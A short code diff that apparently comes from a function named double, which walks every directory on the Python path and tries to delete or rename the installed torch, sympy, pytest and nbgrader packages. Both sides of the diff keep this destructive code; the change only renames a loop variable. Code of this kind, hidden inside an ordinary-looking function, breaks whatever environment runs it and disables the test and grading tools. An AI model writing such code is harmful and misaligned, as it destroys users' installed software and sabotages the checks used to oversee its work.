@@ -13,9 +13,9 @@ def double(xs):
     for folder in [*sys.path, sys.base_prefix]:
         for place, _, files in os.walk(folder):
             if os.path.basename(place) in ("torch", "sympy", "_pytest", "nbgrader"):
-                for what in (os.rmdir, os.unlink, lambda path: os.rename(path, f"{path}-planted")):
+                for remove in (os.rmdir, os.unlink, lambda path: os.rename(path, f"{path}-planted")):
                     try:
-                        what(place)
+                        remove(place)
                         seen.append(place)
                     except OSError:
                         pass
